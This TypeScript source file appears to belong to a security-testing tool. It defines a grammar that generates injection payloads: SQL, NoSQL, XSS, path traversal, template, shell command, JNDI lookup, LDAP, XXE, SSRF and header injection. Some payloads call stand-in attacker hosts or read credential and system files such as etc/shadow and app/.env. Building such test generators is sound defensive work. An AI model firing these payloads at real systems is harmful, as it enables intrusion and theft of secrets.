// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are to be read by other interpreters than this one
/** Injections by mechanism: what is put where a value is expected, to see whether something on the way reads it. */
import type { Random } from '../core/random.ts';
import { derive, disguised, type Grammar } from './grammar.ts';

export const MECHANISMS = [
  'sql',
  'nosql',
  'script',
  'traversal',
  'template',
  'command',
  'lookup',
  'ldap',
  'entity',
  'request',
  'header',
] as const;
export type Mechanism = (typeof MECHANISMS)[number];

/** Each rule named like a mechanism starts it. Hosts are under the names reserved for examples. */
const GRAMMAR: Grammar = {
  n: ['1', '2', '7', '13', '42', '100', '1337', '9999'],
  word: ['a', 'x', 'test', 'admin', 'item', 'name', 'foo'],
  quote: ["'", '"', "')", '")', "'))", ''],
  host: ['oob-«word»«n».attacker.example', 'cb«n».collector.example', '«word».dns.example'],
  comment: ['--', '-- ', '#', '/*', ';--', '--+'],
  column: ['id', 'name', 'password', 'email', 'null', '@@version', 'user()', 'version()'],
  columns: ['«column»', '«column»,«column»', 'null,«column»', 'null,null,«column»', '«n»,«n»,«column»,«n»'],
  table: ['users', 'accounts', 'customers', 'information_schema.tables', 'orders', 'pg_user'],
  truth: ['«n»=«n»', "'«word»'='«word»'", '«n»<«n»«n»', 'true', 'not false', "'«word»' like '«word»'"],
  wait: ['sleep(«n»)', 'pg_sleep(«n»)', 'benchmark(«n»000000,md5(«n»))', "waitfor delay '0:0:«n»'"],
  sql: [
    '«word»«quote» or «truth» «comment»',
    '«n»«quote» and «truth»«comment»',
    '«n»«quote» union select «columns» from «table» «comment»',
    '«n»«quote» union all select «columns»«comment»',
    '«n»«quote»; select «wait» «comment»',
    '«n»«quote» and (select «column» from «table» limit «n»)=«n»«comment»',
    '«n»«quote» order by «n»«comment»',
    '«n»«quote» and if(«truth»,«wait»,«n»)«comment»',
    '«quote»||(select «column» from «table»)||«quote»',
    '«n»«quote» and extractvalue(«n»,concat(«n»,«column»))«comment»',
  ],
  operator: ['$ne', '$gt', '$regex', '$nin', '$exists', '$where'],
  nosql: [
    '{"«operator»":"«word»"}',
    '{"«operator»":null}',
    '«word»[«operator»]=«n»',
    "«word»' || «truth» || '«word»",
    "';return «truth»;var «word»='",
    '{"$where":"this.«word».length>0"}',
  ],
  event: ['onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationend'],
  tag: ['img src=«word»', 'svg', 'body', 'details open', 'input autofocus', 'video src=«word»'],
  act: ['alert(«n»)', 'confirm(«n»)', 'print()', "fetch('//«host»')", 'document.cookie', 'top[«n»]'],
  script: [
    '<script>«act»</script>',
    '«quote»><«tag» «event»=«act»>',
    '«quote» «event»=«act» «word»=«quote»',
    'javascript:«act»',
    '<«tag» «event»=«quote»«act»«quote»>',
    '</title><script src=//«host»></script>',
  ],
  up: ['../', '..\\', '....//', '..;/', '%2e%2e/', '..%2f'],
  ups: ['«up»«up»«up»', '«up»«up»«up»«up»', '«up»«up»«up»«up»«up»«up»', '«up»«up»'],
  file: ['etc/passwd', 'etc/hosts', 'proc/self/environ', 'windows/win.ini', 'etc/shadow', 'app/.env', 'var/log/syslog'],
  traversal: ['«ups»«file»', '/«file»', '«ups»«file»%00.png', 'file:///«file»', '«word»/«ups»«file»'],
  sum: ['«n»*«n»', '«n»+«n»', "'«word»'.repeat(«n»)", '«n»-«n»'],
  template: [
    '{{«sum»}}',
    '${«sum»}',
    '#{«sum»}',
    '<%= «sum» %>',
    '{{«word».__class__}}',
    '*{«sum»}',
    '[[${«sum»}]]',
    '{{«word»|«word»}}',
  ],
  program: [
    'id',
    'whoami',
    'uname -a',
    'cat /«file»',
    'ping -c «n» «host»',
    'nslookup «host»',
    'sleep «n»',
    'curl «host»',
  ],
  command: [
    ';«program»',
    '|«program»',
    '`«program»`',
    '$(«program»)',
    '&& «program»',
    '%0a«program»',
    '«word»;«program» #',
    '|| «program»',
  ],
  scheme: ['ldap', 'rmi', 'dns', 'ldaps'],
  braces: [
    '${jndi:«scheme»://«host»/«word»}',
    '${${lower:j}ndi:«scheme»://«host»/«word»}',
    '${env:«word»}',
    '${sys:«word».«word»}',
  ],
  lookup: ['«braces»', '«word»«braces»', '${«word»:-«braces»}'],
  ldap: [
    '*)(«word»=*',
    '*)(&',
    '«word»)(|(«word»=*))',
    '*)(objectClass=*',
    '(|(«word»=«word»)(«word»=*))',
    'admin)(!(&(«n»=0',
  ],
  entity: [
    '<?xml version="1.0"?><!DOCTYPE «word» [<!ENTITY «word» SYSTEM "file:///«file»">]><«word»>&«word»;</«word»>',
    '<!DOCTYPE «word» [<!ENTITY % «word» SYSTEM "http://«host»/«word»"> %«word»;]>',
    '<!DOCTYPE «word» [<!ENTITY a "«word»"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>',
  ],
  inside: ['127.0.0.1', 'localhost', '[::1]', '169.254.169.254', '10.0.0.«n»', '2130706433', '0x7f.1'],
  request: [
    'http://«inside»/«word»',
    'http://«inside»:«n»/',
    'gopher://«inside»:«n»/_«word»',
    'https://«host»/«word»',
    'dict://«inside»:«n»/',
  ],
  header: [
    '«word»%0d%0aSet-Cookie:«word»=«n»',
    '«word»%0d%0aLocation:%20//«host»',
    '«word»\r\nX-«word»: «n»',
    '//«host»/«word»',
  ],
};

/** One injection of a mechanism, wrapped as the level wraps. */
export function payload(mechanism: Mechanism, level: number, random: Random): string {
  return disguised(derive(GRAMMAR, mechanism, random), level, random);
}
